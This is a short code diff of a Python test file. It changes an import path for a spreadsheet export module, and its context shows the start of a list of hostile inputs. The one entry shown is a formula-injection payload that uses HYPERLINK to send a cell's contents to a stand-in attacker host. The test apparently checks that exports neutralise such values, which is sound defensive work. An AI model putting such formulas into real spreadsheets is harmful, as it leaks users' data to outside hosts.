@@ -13,7 +13,7 @@ from decimal import Decimal
 import pytest
 from openpyxl import load_workbook
 
-from jobaid.sheets import Sheet, csv_text, xlsx_bytes
+from adapters.sheets import Sheet, csv_text, xlsx_bytes
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
